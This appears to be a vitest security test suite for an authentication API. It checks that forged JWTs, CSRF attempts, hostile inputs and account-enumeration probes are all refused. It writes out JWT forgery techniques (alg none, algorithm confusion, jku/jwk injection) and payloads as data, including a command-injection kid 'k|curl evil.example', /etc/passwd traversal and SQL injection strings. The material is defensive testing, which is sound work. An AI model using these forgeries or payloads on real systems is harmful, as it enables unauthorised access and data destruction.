/**
 * The attack suite (issue 6), all over real HTTP against a real server:
 * 1. forged, tampered and malformed access tokens, on an HS256 and an RS256 deployment: every
 *    one is a 401 with one byte-identical body (bar `path`) and `WWW-Authenticate: Bearer`;
 * 2. CSRF on the cookie-authenticated mutations (refresh, logout);
 * 3. hostile input (SQL-ish, Unicode tricks, NUL, 1 MB) to every procedure of the router;
 * 4. account enumeration: same message, same time.
 */
import {
  createHmac,
  createSign,
  generateKeyPairSync,
  randomUUID,
  type KeyObject,
} from "node:crypto";
import { createServer, request as httpRequest, type Server } from "node:http";
import type { AddressInfo } from "node:net";

import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { appRouter } from "../src";
import {
  call,
  cookieFrom,
  login,
  quickDatabase,
  registerAndLogin,
  signedInAdmin,
  startTestServer,
  TEST_SECRET,
  uniqueEmail,
  type SignedIn,
  type TestServer,
} from "./harness";

// ---- HTTP with full control over bytes ---------------------------------------------------------

interface RawResponse {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
}

/** node:http, not fetch: header values go out as raw latin1 bytes, and nothing is normalized. */
function raw(
  base: string,
  path: string,
  {
    method = "GET",
    headers = {},
    body,
  }: { method?: string; headers?: Record<string, string>; body?: string | Buffer } = {},
): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(`${base}${path}`, { method, headers, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c: Buffer) => chunks.push(c));
      res.on("end", () =>
        resolve({
          status: res.statusCode ?? 0,
          headers: res.headers,
          text: Buffer.concat(chunks).toString("utf8"),
        }),
      );
      res.on("error", reject);
    });
    req.on("error", reject);
    req.end(body);
  });
}

const withoutPath = (text: string) => text.replace(/"path":"[^"]*",?/, "");

// ---- JWT crafting, by hand so nothing "helps" ---------------------------------------------------

const b64 = (value: unknown) =>
  Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");
type Signer = (input: string) => string;
const hmac =
  (secret: string | Buffer): Signer =>
  (input) =>
    createHmac("sha256", secret).update(input).digest("base64url");
const rsa =
  (key: KeyObject): Signer =>
  (input) =>
    createSign("RSA-SHA256").update(input).sign(key).toString("base64url");
function jwt(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  sign: Signer | null,
): string {
  const input = `${b64(header)}.${b64(payload)}`;
  return `${input}.${sign ? sign(input) : ""}`;
}
const decode = (part: string) =>
  JSON.parse(Buffer.from(part, "base64url").toString()) as Record<string, unknown>;

// ---- 1. Tokens ---------------------------------------------------------------------------------

const rsaKey = generateKeyPairSync("rsa", { modulusLength: 2048 });
const attackerKey = generateKeyPairSync("rsa", { modulusLength: 2048 });
const RSA_PEM = rsaKey.privateKey.export({ type: "pkcs8", format: "pem" }).toString();
const RSA_PUBLIC_PEM = rsaKey.publicKey.export({ type: "spki", format: "pem" }).toString();

interface Deployment {
  name: string;
  env: Record<string, string>;
  store: "database" | "upstash";
  alg: "HS256" | "RS256";
  /** Signs with the deployment's real key (we hold it: the claim checks must stand on their own). */
  realSigner: Signer;
}

const deployments: Deployment[] = [
  {
    name: "HS256 (AUTH_SECRET), database store",
    env: {},
    store: "database",
    alg: "HS256",
    realSigner: hmac(TEST_SECRET),
  },
  {
    name: "RS256 (AUTH_PRIVATE_KEY), upstash store",
    env: { AUTH_PRIVATE_KEY: RSA_PEM },
    store: "upstash",
    alg: "RS256",
    realSigner: rsa(rsaKey.privateKey),
  },
];

describe.each(deployments)("token attacks on $name", (deployment) => {
  let server: TestServer;
  let user: SignedIn;
  let header: Record<string, unknown>;
  let claims: Record<string, unknown>;
  let attackerJwks: Server;
  let attackerHits = 0;
  let attackerUrl: string;
  const bodies = new Map<string, string>();

  beforeAll(async () => {
    server = await startTestServer({
      database: await quickDatabase(),
      store: deployment.store,
      env: deployment.env,
    });
    user = await registerAndLogin(server.url);
    const [h, p] = user.accessToken.split(".");
    header = decode(h!);
    claims = decode(p!);
    expect(header.alg).toBe(deployment.alg);
    attackerJwks = createServer((_req, res) => {
      attackerHits++;
      const jwk = attackerKey.publicKey.export({ format: "jwk" });
      res
        .writeHead(200, { "content-type": "application/json" })
        .end(JSON.stringify({ keys: [{ ...jwk, kid: "attacker", alg: "RS256" }] }));
    });
    await new Promise<void>((resolve) => attackerJwks.listen(0, "127.0.0.1", resolve));
    attackerUrl = `http://127.0.0.1:${(attackerJwks.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await server.close();
    await new Promise((resolve) => attackerJwks.close(resolve));
  });

  // The server's clock, not the machine's: it stands still while the suite runs, and a token
  // stamped with the machine's time minutes later would be refused as issued in the future.
  const now = () => Math.floor(server.clock.now() / 1000);
  const fresh = (overrides: Record<string, unknown> = {}) => ({
    ...claims,
    jti: randomUUID(),
    iat: now(),
    exp: now() + 600,
    ...overrides,
  });
  const real = (payload: Record<string, unknown>, headerOverrides: Record<string, unknown> = {}) =>
    jwt({ ...header, ...headerOverrides }, payload, deployment.realSigner);
  const attacker = rsa(attackerKey.privateKey);
  const attackerJwk = () => ({
    ...attackerKey.publicKey.export({ format: "jwk" }),
    kid: "attacker",
  });

  it("accepts a token made by the test's own signer (so every refusal below is meaningful)", async () => {
    const control = await raw(server.url, "/api/trpc/user.me", {
      headers: { authorization: `Bearer ${real(fresh())}` },
    });
    expect(control.status).toBe(200);
  });

  /** name → the Authorization header value (undefined: none at all). */
  const cases: [string, () => string | undefined][] = [
    ["no Authorization header", () => undefined],
    ["empty bearer", () => "Bearer "],
    ["another scheme (Basic)", () => `Basic ${Buffer.from("admin:admin").toString("base64")}`],
    ["garbage", () => "Bearer garbage"],
    ["three garbage parts", () => "Bearer a.b.c"],
    [
      "forged signature (other key, same kid)",
      () =>
        `Bearer ${jwt(header, fresh(), deployment.alg === "HS256" ? hmac(TEST_SECRET.replace(/^./, "0")) : attacker)}`,
    ],
    [
      "tampered payload (role: admin, original signature)",
      () => {
        const [h, , s] = user.accessToken.split(".");
        return `Bearer ${h}.${b64({ ...claims, role: "admin" })}.${s}`;
      },
    ],
    [
      "tampered header (other kid, original signature)",
      () => {
        const [, p, s] = user.accessToken.split(".");
        return `Bearer ${b64({ ...header, kid: "other" })}.${p}.${s}`;
      },
    ],
    ["signature stripped", () => `Bearer ${user.accessToken.split(".").slice(0, 2).join(".")}.`],
    [
      "alg none, empty signature",
      () => `Bearer ${jwt({ alg: "none", typ: "JWT", kid: header.kid }, fresh(), null)}`,
    ],
    [
      "alg none, original signature kept",
      () =>
        `Bearer ${jwt({ alg: "none", typ: "JWT", kid: header.kid }, fresh(), () => user.accessToken.split(".")[2]!)}`,
    ],
    ["alg NoNe (casing)", () => `Bearer ${jwt({ alg: "NoNe", typ: "JWT" }, fresh(), null)}`],
    [
      "alg HS384 with the real kid",
      () =>
        `Bearer ${jwt({ ...header, alg: "HS384" }, fresh(), (i) => createHmac("sha384", TEST_SECRET).update(i).digest("base64url"))}`,
    ],
    [
      "algorithm confusion: HS256 keyed with the RSA public key PEM",
      () => `Bearer ${jwt({ ...header, alg: "HS256" }, fresh(), hmac(RSA_PUBLIC_PEM))}`,
    ],
    [
      "algorithm confusion: HS256 keyed with the public PEM, no trailing newline",
      () => `Bearer ${jwt({ ...header, alg: "HS256" }, fresh(), hmac(RSA_PUBLIC_PEM.trim()))}`,
    ],
    [
      "algorithm confusion: HS256 keyed with the public JWK JSON",
      () =>
        `Bearer ${jwt({ ...header, alg: "HS256" }, fresh(), hmac(JSON.stringify(rsaKey.publicKey.export({ format: "jwk" }))))}`,
    ],
    [
      "RS256 token on an HS256 deployment (attacker key)",
      () => `Bearer ${jwt({ ...header, alg: "RS256" }, fresh(), attacker)}`,
    ],
    [
      "kid path traversal ../../etc/passwd, HMAC of empty key",
      () =>
        `Bearer ${jwt({ alg: "HS256", typ: "JWT", kid: "../../../../etc/passwd" }, fresh(), hmac(""))}`,
    ],
    [
      "kid /dev/null, HMAC of empty key",
      () => `Bearer ${jwt({ alg: "HS256", typ: "JWT", kid: "/dev/null" }, fresh(), hmac(""))}`,
    ],
    [
      "kid SQL injection",
      () =>
        `Bearer ${jwt({ alg: "HS256", typ: "JWT", kid: "x' UNION SELECT 'secret' --" }, fresh(), hmac("secret"))}`,
    ],
    [
      "kid command injection",
      () =>
        `Bearer ${jwt({ alg: "HS256", typ: "JWT", kid: "k|curl evil.example" }, fresh(), hmac(""))}`,
    ],
    [
      "kid as an object",
      () => `Bearer ${jwt({ ...header, kid: { $ne: null } }, fresh(), deployment.realSigner)}`,
    ],
    [
      "jku pointing to the attacker's key set",
      () =>
        `Bearer ${jwt({ alg: "RS256", typ: "JWT", kid: "attacker", jku: `${attackerUrl}/jwks.json` }, fresh(), attacker)}`,
    ],
    [
      "x5u pointing to the attacker",
      () =>
        `Bearer ${jwt({ alg: "RS256", typ: "JWT", kid: "attacker", x5u: `${attackerUrl}/cert.pem` }, fresh(), attacker)}`,
    ],
    [
      "jwk header embedding the attacker's public key",
      () =>
        `Bearer ${jwt({ alg: "RS256", typ: "JWT", kid: "attacker", jwk: attackerJwk() }, fresh(), attacker)}`,
    ],
    [
      "jwk header with the real kid",
      () =>
        `Bearer ${jwt({ alg: "RS256", typ: "JWT", kid: header.kid, jwk: attackerJwk() }, fresh(), attacker)}`,
    ],
    [
      "expired beyond the clock tolerance",
      () => `Bearer ${real(fresh({ iat: now() - 3600, exp: now() - 60 }))}`,
    ],
    [
      "issued in the future (iat +1h)",
      () => `Bearer ${real(fresh({ iat: now() + 3600, exp: now() + 4500 }))}`,
    ],
    ["not yet valid (nbf +1h)", () => `Bearer ${real(fresh({ nbf: now() + 3600 }))}`],
    ["wrong audience", () => `Bearer ${real(fresh({ aud: "some-other-api" }))}`],
    ["audience list without ours", () => `Bearer ${real(fresh({ aud: ["a", "b"] }))}`],
    ["wrong issuer", () => `Bearer ${real(fresh({ iss: "https://evil.example" }))}`],
    ["missing sub", () => `Bearer ${real(fresh({ sub: undefined }))}`],
    ["sub not a UUID (SQL)", () => `Bearer ${real(fresh({ sub: "' OR 1=1 --" }))}`],
    ["missing exp", () => `Bearer ${real(fresh({ exp: undefined }))}`],
    ["unknown role", () => `Bearer ${real(fresh({ role: "superadmin" }))}`],
    ["typ at+jwt", () => `Bearer ${real(fresh(), { typ: "at+jwt" })}`],
    ["valid token with trailing garbage", () => `Bearer ${user.accessToken}x`],
    ["valid token, two spaces, junk after", () => `Bearer ${user.accessToken} junk`],
    [
      "oversized (12 KB, under the server's header cap)",
      () => `Bearer ${"a".repeat(12_000)}.${"b".repeat(10)}.c`,
    ],
    ["non-UTF-8 bytes", () => "Bearer \xff\xfe\x80\xc3\x28.\xa0\xa1.\xe2\x28\xa1"],
    ["latin1 look-alike of a token", () => `Bearer ${user.accessToken.replace(/a/g, "\xe0")}`],
  ];

  it.each(cases)("refuses: %s", async (name, make) => {
    const authorization = make();
    for (const [path, method] of [
      ["/api/trpc/user.me", "GET"],
      ["/api/trpc/auth.logoutAll", "POST"],
    ] as const) {
      const res = await raw(server.url, path, {
        method,
        headers: {
          ...(authorization === undefined ? {} : { authorization }),
          ...(method === "POST" ? { "content-type": "application/json" } : {}),
        },
      });
      expect(res.status, `${name} on ${path}`).toBe(401);
      expect(res.headers["www-authenticate"]).toBe("Bearer");
      bodies.set(`${name} ${path}`, withoutPath(res.text));
    }
    expect(
      new Set(bodies.values()).size,
      [...bodies.entries()].map(([k, v]) => `${k}: ${v}`).join("\n"),
    ).toBe(1);
  });

  it("refused every case with one body, never looked a key up elsewhere, and the user still works", async () => {
    expect(new Set(bodies.values()).size).toBe(1);
    expect([...bodies.values()][0]).toBe(
      '{"error":{"message":"Unauthorized","code":-32001,"data":{"code":"UNAUTHORIZED","httpStatus":401,"zodError":null}}}',
    );
    expect(attackerHits).toBe(0);
    // No forged logoutAll went through: the real token is alive.
    expect((await call(server.url, "query", "user.me", { token: user.accessToken })).status).toBe(
      200,
    );
  });

  it("answers a 100 KB Authorization header at the transport (431), never 500", async () => {
    const res = await raw(server.url, "/api/trpc/user.me", {
      headers: { authorization: `Bearer ${"a".repeat(100_000)}` },
    });
    expect(res.status).toBe(431);
    expect((await call(server.url, "query", "user.me", { token: user.accessToken })).status).toBe(
      200,
    );
  });

  it("refuses a revoked token with the same body", async () => {
    const victim = await registerAndLogin(server.url);
    await call(server.url, "mutation", "auth.logout", {
      token: victim.accessToken,
      cookie: victim.cookie,
    });
    const res = await raw(server.url, "/api/trpc/user.me", {
      headers: { authorization: `Bearer ${victim.accessToken}` },
    });
    expect(res.status).toBe(401);
    expect(withoutPath(res.text)).toBe([...bodies.values()][0]);
  });
});

// ---- 2. CSRF -----------------------------------------------------------------------------------

describe("CSRF on cookie-authenticated mutations", () => {
  let server: TestServer;
  let base: string;
  beforeAll(async () => {
    server = await startTestServer({ database: await quickDatabase(), store: "database" });
    base = server.url;
  });
  afterAll(() => server.close());

  const refused: [string, Record<string, string>][] = [
    ["a foreign Origin", { origin: "https://evil.example" }],
    ["Origin null (sandboxed frame, data: URL)", { origin: "null" }],
    ["an unparsable Origin", { origin: "::::" }],
    ["a look-alike Origin", { origin: "http://app.test.evil.example" }],
    ["Sec-Fetch-Site: cross-site", { "sec-fetch-site": "cross-site" }],
    [
      "Sec-Fetch-Site: same-site (a sibling subdomain)",
      { "sec-fetch-site": "same-site", origin: "http://blog.app.test" },
    ],
    [
      "Sec-Fetch-Site: cross-site with our own Origin",
      { "sec-fetch-site": "cross-site", origin: "http://app.test" },
    ],
    [
      "same-origin Sec-Fetch-Site with a foreign Origin",
      { "sec-fetch-site": "same-origin", origin: "https://evil.example" },
    ],
  ];

  it.each(refused)(
    "refuses refresh and logout with %s, and changes nothing",
    async (_, headers) => {
      const user = await registerAndLogin(base);
      for (const path of ["auth.refresh", "auth.logout"]) {
        const res = await call(base, "mutation", path, {
          cookie: user.cookie,
          token: user.accessToken,
          headers,
        });
        expect(res.status, path).toBe(403);
        expect(res.body.error?.data.code).toBe("FORBIDDEN");
        expect(res.body.error?.message).toBe("Cross-site requests are not allowed");
        expect(res.headers.getSetCookie()).toEqual([]);
      }
      // Nothing was consumed or revoked: the token and the cookie both still work.
      expect((await call(base, "query", "user.me", { token: user.accessToken })).status).toBe(200);
      const refreshed = await call(base, "mutation", "auth.refresh", { cookie: user.cookie });
      expect(refreshed.status).toBe(200);
    },
  );

  const allowed: [string, Record<string, string>][] = [
    ["no Origin and no Sec-Fetch-Site (curl, a CLI, another service)", {}],
    [
      "Sec-Fetch-Site: same-origin and our Origin",
      { "sec-fetch-site": "same-origin", origin: "http://app.test" },
    ],
    ["Sec-Fetch-Site: none (typed by the user)", { "sec-fetch-site": "none" }],
    ["the configured APP_URL as Origin", { origin: "http://app.test" }],
  ];

  it.each(allowed)("allows refresh and logout with %s", async (_, headers) => {
    const user = await registerAndLogin(base);
    const refreshed = await call<{ accessToken: string }>(base, "mutation", "auth.refresh", {
      cookie: user.cookie,
      headers,
    });
    expect(refreshed.status).toBe(200);
    const cookie = cookieFrom(refreshed);
    const out = await call(base, "mutation", "auth.logout", {
      cookie,
      token: refreshed.data.accessToken,
      headers,
    });
    expect(out.status).toBe(200);
    expect((await call(base, "mutation", "auth.refresh", { cookie })).status).toBe(401);
  });

  it("allows the server's own host as Origin", async () => {
    const user = await registerAndLogin(base);
    const res = await call(base, "mutation", "auth.refresh", {
      cookie: user.cookie,
      headers: { origin: base },
    });
    expect(res.status).toBe(200);
  });
});

// ---- 3. Hostile input to every procedure -----------------------------------------------------------

type ProcedureDef = { _def: { type: "query" | "mutation" | "subscription"; inputs: unknown[] } };
const procedures = Object.entries(
  appRouter._def.procedures as unknown as Record<string, ProcedureDef>,
);

const MB = "a".repeat(1024 * 1024);
const payloads: [string, string][] = [
  ["SQL tautology", "' OR 1=1 --"],
  ["SQL stacked query", "x'; DROP TABLE users; --"],
  ["RTL override", "\u202Egnp.exe\u202C"],
  ["zero-width characters", "ad\u200Bmin\u200D\uFEFF"],
  ["emoji with ZWJ", "👩‍💻🔐🏳️‍🌈"],
  ["NUL byte", "a\u0000b"],
  ["lone surrogate", "x\uD800y"],
  ["prototype pollution key", "__proto__"],
  ["1 MB string", MB],
];
const FIELDS = [
  "email",
  "password",
  "name",
  "id",
  "userId",
  "role",
  "currentPassword",
  "newPassword",
  "ticket",
  "refreshToken",
  "token",
];

describe("hostile input to every procedure", () => {
  let server: TestServer;
  let user: SignedIn;
  let admin: SignedIn;

  beforeAll(async () => {
    server = await startTestServer({ database: await quickDatabase(), store: "database" });
    user = await registerAndLogin(server.url);
    admin = await signedInAdmin(server);
  });
  afterAll(() => server.close());

  /** Everything an attacker could have changed, in one comparable string. */
  async function snapshot() {
    const { prisma } = server.db;
    return JSON.stringify({
      users: await prisma.user.findMany({
        orderBy: { id: "asc" },
        select: {
          id: true,
          email: true,
          name: true,
          role: true,
          tokenVersion: true,
          passwordHash: true,
        },
      }),
      sessions: await prisma.session.findMany({
        orderBy: { id: "asc" },
        select: { id: true, revokedAt: true },
      }),
      tokens: await prisma.refreshToken.count(),
      consumed: await prisma.refreshToken.count({ where: { consumedAt: { not: null } } }),
      denied: await prisma.revokedAccessToken.count(),
    });
  }

  it("walks a router that has procedures", () => {
    expect(procedures.length).toBeGreaterThanOrEqual(13);
  });

  it.each(procedures)(
    "%s: never 500, bad input refused, nothing changed",
    async (path, procedure) => {
      const { type, inputs } = procedure._def;
      const before = await snapshot();
      const identities: [string, string | null][] = [
        ["anonymous", null],
        ["user", user.accessToken],
        ["admin", admin.accessToken],
      ];
      const statuses = new Set<number>();
      for (const [label, payload] of payloads) {
        const big = payload === MB;
        const shapes: unknown[] = big
          ? [
              payload,
              {
                [FIELDS[0]!]: payload,
                ...Object.fromEntries(FIELDS.slice(1).map((f) => [f, "x"])),
              },
            ]
          : [
              payload,
              Object.fromEntries(FIELDS.map((f) => [f, payload])),
              [payload],
              { [payload.slice(0, 64)]: payload },
            ];
        for (const input of shapes) {
          for (const [who, token] of identities) {
            // A procedure without input ignores what it is sent: an authenticated mutation of that
            // kind (logoutAll, ticket, logout) would do its job, which is no attack. Anonymous only.
            if (inputs.length === 0 && type !== "query" && token) continue;
            const res = await send(server.url, path, type, input, token);
            statuses.add(res.status);
            const where = `${path} as ${who} with ${label} (${JSON.stringify(input).slice(0, 60)})`;
            expect(res.status, where).toBeLessThan(500);
            if (res.status === 200) {
              // Only procedures that take no input may succeed, and only reads or the harmless
              // logout; or an admin's search (a read), which finds nobody by a hostile string.
              if (path !== "admin.users") expect(inputs.length, where).toBe(0);
            } else {
              // 429: wrong current passwords count like failed logins, so a flood of them is cut off.
              expect([400, 401, 403, 404, 413, 414, 429, 431], where).toContain(res.status);
            }
            if (payload === MB && inputs.length > 0)
              expect([401, 403, 413, 414, 431], where).toContain(res.status);
          }
        }
      }
      expect(await snapshot()).toBe(before);
      // The user and admin were never logged out by any of it.
      expect((await call(server.url, "query", "user.me", { token: user.accessToken })).status).toBe(
        200,
      );
      expect(
        (await call(server.url, "query", "user.me", { token: admin.accessToken })).status,
      ).toBe(200);
      expect(statuses.size).toBeGreaterThan(0);
    },
  );

  it("stores weird but legal names exactly, and never 500s on them", async () => {
    for (const [label, payload] of payloads) {
      const email = uniqueEmail("unicode");
      const res = await call<{ user: { name: string | null } }>(
        server.url,
        "mutation",
        "auth.register",
        {
          input: { email, password: "correct horse battery", name: payload },
        },
      );
      expect(res.status, label).toBeLessThan(500);
      if (payload === MB) {
        expect([400, 413], label).toContain(res.status);
      } else if (
        payload.length > 100 ||
        payload.includes("\u0000") ||
        /[\uD800-\uDFFF]/.test(payload.replace(/[\uD800-\uDBFF][\uDC00-\uDFFF]/g, ""))
      ) {
        // Too long, or not storable text (NUL, unpaired surrogate): refused as bad input.
        expect(res.status, label).toBe(400);
        expect(await server.db.prisma.user.count({ where: { email } })).toBe(0);
      } else {
        expect(res.status, label).toBe(200);
        expect(res.data.user.name, label).toBe(payload.trim());
        const signedIn = await login(server.url, email, "correct horse battery");
        const me = await call<{ name: string }>(server.url, "query", "user.me", {
          token: signedIn.accessToken,
        });
        expect(me.data.name, label).toBe(payload.trim());
      }
    }
  });

  it("treats SQL and Unicode in credentials as plain data", async () => {
    for (const [label, payload] of payloads.filter(([, p]) => p.length <= 256)) {
      // As the password of a real account: it works, exactly, and nothing else does.
      const email = uniqueEmail("pw");
      const password = `${payload}-padding`;
      expect(
        (await call(server.url, "mutation", "auth.register", { input: { email, password } }))
          .status,
        label,
      ).toBe(200);
      expect(
        (await call(server.url, "mutation", "auth.login", { input: { email, password } })).status,
        label,
      ).toBe(200);
      const near = await call(server.url, "mutation", "auth.login", {
        input: { email, password: password.normalize("NFKD").replace(/\u200B/g, "") + "x" },
      });
      expect(near.status, label).toBe(401);
    }
    // SQL in a legal email address is just an address.
    const email = `admin'--${Date.now()}@example.com`;
    expect(
      (
        await call(server.url, "mutation", "auth.register", {
          input: { email, password: "correct horse battery" },
        })
      ).status,
    ).toBe(200);
    expect(
      (
        await call(server.url, "mutation", "auth.login", {
          input: { email: "admin'--@example.com", password: "correct horse battery" },
        })
      ).status,
    ).toBe(401);
    expect(await server.db.prisma.user.count({ where: { email } })).toBe(1);
  });
});

async function send(
  base: string,
  path: string,
  type: string,
  input: unknown,
  token: string | null,
): Promise<RawResponse> {
  const headers: Record<string, string> = token ? { authorization: `Bearer ${token}` } : {};
  const json = JSON.stringify(input);
  if (type === "mutation") {
    return raw(base, `/api/trpc/${path}`, {
      method: "POST",
      headers: { ...headers, "content-type": "application/json" },
      body: json,
    });
  }
  if (type === "subscription") {
    // Server-sent events: a refused subscription ends its stream at once (tested: it must).
    const res = await raw(base, `/api/trpc/${path}?input=${encodeURIComponent(json)}`, {
      headers: { ...headers, accept: "text/event-stream" },
    });
    if (res.status !== 200) return res;
    // A stream that opened must carry nothing but the refusal: tRPC's error event, with its status.
    const events = [...res.text.matchAll(/^event: (.+)$/gm)].map((m) => m[1]);
    expect(events.filter((e) => e !== "connected")).toEqual(["serialized-error"]);
    const status = /"httpStatus":(\d+)/.exec(res.text)?.[1];
    return { ...res, status: Number(status) };
  }
  return raw(base, `/api/trpc/${path}?input=${encodeURIComponent(json)}`, { headers });
}

// ---- 4. Account enumeration ----------------------------------------------------------------------

describe("account enumeration", () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer({
      database: await quickDatabase(),
      store: "database",
      // Timing needs many failures on one account: lift the per-account limit for this suite.
      env: { RATE_LIMIT_LOGIN_ACCOUNT: "off" },
    });
  });
  afterAll(() => server.close());

  it("says exactly the same for an unknown email and a wrong password", async () => {
    const known = await registerAndLogin(server.url);
    const wrong = await call(server.url, "mutation", "auth.login", {
      input: { email: known.email, password: "not the password" },
    });
    const unknown = await call(server.url, "mutation", "auth.login", {
      input: { email: uniqueEmail("nobody"), password: "not the password" },
    });
    expect(wrong.status).toBe(401);
    expect(unknown.status).toBe(401);
    expect(unknown.text).toBe(wrong.text);
    expect(Object.fromEntries(unknown.headers)).toMatchObject({ "www-authenticate": "Bearer" });
    expect(
      [...unknown.headers.keys()].filter((k) => k !== "date" && k !== "x-request-id").sort(),
    ).toEqual([...wrong.headers.keys()].filter((k) => k !== "date" && k !== "x-request-id").sort());
  });

  it("takes the same time for an unknown email as for a wrong password (medians within 15%)", async () => {
    const known = await registerAndLogin(server.url);
    const attempt = async (email: string) => {
      const started = process.hrtime.bigint();
      const res = await call(server.url, "mutation", "auth.login", {
        input: { email, password: "wrong password 123" },
      });
      expect(res.status).toBe(401);
      return Number(process.hrtime.bigint() - started) / 1e6;
    };
    const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
    // Warm both paths (the dummy hash is made on first use), then measure interleaved. Another
    // suite running on the same cores adds noise to single rounds, so a round may be repeated;
    // a real difference (an early return costs ~1 ms against ~30 ms of argon2) fails them all.
    await attempt(known.email);
    await attempt(uniqueEmail("warm"));
    const rounds: string[] = [];
    let spread = 1;
    for (let round = 0; round < 4 && spread > 0.15; round++) {
      const existing: number[] = [];
      const missing: number[] = [];
      for (let i = 0; i < 15; i++) {
        if (i % 2 === 0) {
          existing.push(await attempt(known.email));
          missing.push(await attempt(uniqueEmail("ghost")));
        } else {
          missing.push(await attempt(uniqueEmail("ghost")));
          existing.push(await attempt(known.email));
        }
      }
      const [a, b] = [median(existing), median(missing)];
      spread = Math.abs(a - b) / Math.max(a, b);
      rounds.push(
        `existing ${a.toFixed(1)} ms, unknown ${b.toFixed(1)} ms, spread ${(spread * 100).toFixed(1)}%`,
      );
    }
    expect(spread, rounds.join("\n")).toBeLessThanOrEqual(0.15);
  });
});
